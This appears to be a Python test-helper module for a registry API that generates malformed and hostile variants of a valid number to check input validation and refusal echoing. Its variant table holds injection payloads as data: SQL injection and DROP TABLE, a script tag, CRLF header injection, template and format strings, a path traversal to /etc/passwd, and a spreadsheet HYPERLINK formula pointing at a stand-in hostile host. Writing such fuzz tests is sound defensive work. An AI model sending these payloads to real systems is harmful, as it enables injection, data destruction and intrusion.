"""What has been typed into registers out of malice, haste or another alphabet, made from a number that is good."""

import re
from functools import cache

import yaml

from registry.cli.spec import FOLDER

CYRILLIC = str.maketrans("ABCEHKMOPTXYaceopxy", "АВСЕНКМОРТХУасеорху")
ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
MATHEMATICAL_SANS = str.maketrans("0123456789", "𝟢𝟣𝟤𝟥𝟦𝟧𝟨𝟩𝟪𝟫")  # NFKC folds these: they are digits, written oddly
CIRCLED = str.maketrans("123456789", "①②③④⑤⑥⑦⑧⑨")
LETTERS = str.maketrans("015", "OIS")


def variants(good):
    """Name and text of every hostile thing made from a good number; none of them is that number."""
    made = {
        "cyrillic": good.translate(CYRILLIC),
        "arabic digits": good.translate(ARABIC),
        "letters for digits": good.translate(LETTERS),
        "zero width": f"{good[:4]}\u200b{good[4:]}",
        "joiner": f"{good[:4]}\u200d{good[4:]}",
        "byte order mark inside": f"{good[:4]}\ufeff{good[4:]}",
        "right to left": f"\u202e{good}\u202c",
        "left to right mark": f"{good[:4]}\u200e{good[4:]}",
        "combining": f"{good[:4]}\u0301{good[4:]}",
        "keycap": f"{good[:4]}\ufe0f\u20e3{good[4:]}",
        "emoji": f"{good[:-1]}😀",
        "family emoji": f"{good[:-1]}👨\u200d👩\u200d👧",
        "tag characters": good + "\U000e0031\U000e007f",
        "private use": good + "\ue000",
        "noncharacter": good + "\uffff",
        "lone surrogate": good + "\ud800",
        "NUL": f"{good}\0",
        "NUL inside": f"{good[:4]}\0{good[4:]}",
        "line break inside": f"{good[:4]}\n{good[4:]}",
        "header": f"{good}\r\nSet-Cookie: hostile=1",
        "hangul filler": f"{good[:4]}\u3164{good[4:]}",
        "ten thousand": good * (10_000 // len(good)),
        "ten thousand ligatures": "\ufdfa" * 10_000,
        "SQL": f"{good}' OR '1'='1",
        "SQL comment": f"{good}'; DROP TABLE entry; --",
        "LIKE": f"{good[:4]}%_",
        "format": f"{good}{{0.__class__}}%s%n",
        "template": f"{good}{{{{7*7}}}}${{7*7}}",
        "script": f"{good}<script>alert(1)</script>",
        "formula": f'=HYPERLINK("//hostile.example/{good}")',
        "path": f"{good}/../../etc/passwd",
        "other host": f"//hostile.example/{good}",
        "leading junk": f"x{good}",
        "trailing junk": f"{good}x",
        "twice": f"{good},{good}",
        "negative": f"-{good}",
        "exponent": f"{good}e9",
    }  # fmt: skip
    return {name: text for name, text in made.items() if text != good}


def echoes(answer, text):
    """Whether a refusal gives back what was typed, in its body or a header, as it was or escaped."""
    shown = f"{answer.get_data(as_text=True)}\n{answer.headers}"
    written = text.encode("unicode_escape").decode()
    return len(text) > 3 and any(each in shown for each in (text, written))


@cache
def questions():
    """Address and parameters, its path's among them, of every GET the specification lists."""
    document = yaml.safe_load((FOLDER / "openapi.yaml").read_text(encoding="utf-8"))
    return {
        path: (*item.get("parameters", ()), *item["get"].get("parameters", ()))
        for path, item in document["paths"].items()
        if "get" in item
    }


def text_parameters():
    """Every place in an address that takes text: address, where in it (path or query), name."""
    return [(path, each["in"], each["name"]) for path, given in questions().items() for each in given]


def required(path):
    """The names behind the question mark that a question at this address needs."""
    return [each["name"] for each in questions()[path] if each["in"] == "query" and each.get("required")]


def fill(path, **named):
    return re.sub(r"\{(\w+)\}", lambda match: named.get(match[1], "x"), path)
